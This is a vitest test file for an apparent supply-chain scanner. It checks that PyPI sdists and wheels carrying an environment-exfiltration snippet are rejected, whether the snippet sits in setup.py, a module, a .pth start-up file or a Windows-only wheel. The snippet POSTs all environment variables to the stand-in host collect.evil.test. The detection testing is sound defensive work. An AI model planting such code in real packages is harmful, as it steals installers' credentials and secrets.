// Why every kind of distribution is read: what is in one of them only must be found there.
import { afterEach, describe, expect, test } from 'vitest';
import { pypiSource } from '../../../src/fetchers/pypi/source.ts';
import { inspect } from '../../../src/scan/inspect.ts';
import { judge } from '../../../src/scan/judge.ts';
import { testContext } from '../fetch-context.ts';
import { type IndexServer, type Published, sdist, startIndex, wheel } from './index-server.ts';

const modules = { 'tool/__init__.py': 'from tool.core import run\n', 'tool/core.py': 'def run():\n    return 1\n' };
const setup = 'from setuptools import setup\nsetup(name="tool", version="1.0", packages=["tool"])\n';
const send = [
  'import os, json, urllib.request',
  'body = json.dumps(dict(os.environ)).encode()',
  'urllib.request.urlopen(urllib.request.Request("https://collect.evil.test/in", data=body, method="POST"))',
].join('\n');

let index: IndexServer;
afterEach(() => index.close());

async function verdictOf(files: readonly Published[]) {
  index = await startIndex({ tool: { files } });
  const context = testContext('pypi:tool', { pypiIndex: index.url });
  const artifact = await pypiSource.fetch({ name: 'tool' }, context).finally(() => context.net.close());
  const inspection = await inspect(artifact);
  const { verdict } = judge(inspection);
  const decisive = inspection.findings.filter(({ severity }) => severity === 'CRITICAL');
  return { verdict, found: [...new Set(decisive.map(({ at, trigger }) => `${at.file} ${trigger}`))] };
}

describe('the environment is sent away', () => {
  const clean = sdist('tool', '1.0', { ...modules, 'setup.py': setup });
  const any = 'py3-none-any';
  test.each<[string, readonly Published[], string]>([
    [
      'by setup.py of the source distribution',
      [sdist('tool', '1.0', { ...modules, 'setup.py': `${send}\n${setup}` }), wheel('tool', '1.0', any, modules)],
      'sdist/setup.py install',
    ],
    [
      'by a module of the wheel',
      [clean, wheel('tool', '1.0', any, { ...modules, 'tool/core.py': `${send}\n${modules['tool/core.py']}` })],
      'wheel/tool/core.py import',
    ],
    [
      'by a start-up file of the wheel',
      [clean, wheel('tool', '1.0', any, { ...modules, 'tool.pth': `import tool_start\n`, 'tool_start.py': send })],
      'wheel/tool_start.py startup',
    ],
    [
      'by the wheel for one system',
      [
        clean,
        wheel('tool', '1.0', 'cp313-cp313-manylinux_2_28_x86_64', modules),
        wheel('tool', '1.0', 'cp313-cp313-win_amd64', { ...modules, 'tool/__init__.py': send }),
      ],
      'wheel-windows/tool/__init__.py import',
    ],
    [
      'by a wheel whose code lies in the tests of the source distribution, too',
      [
        sdist('tool', '1.0', { 'setup.py': setup, 'tests/tool/__init__.py': send }),
        wheel('tool', '1.0', any, { 'tool/__init__.py': send }),
      ],
      'wheel/tool/__init__.py import',
    ],
  ])('%s', async (_how, files, place) => {
    const { verdict, found } = await verdictOf(files);
    expect({ verdict, found }).toEqual({ verdict: 'REJECT', found: expect.arrayContaining([place]) });
  });

  test('by nothing: the same without it is approved', async () => {
    expect(await verdictOf([clean, wheel('tool', '1.0', any, modules)])).toEqual({ verdict: 'APPROVE', found: [] });
  });
});
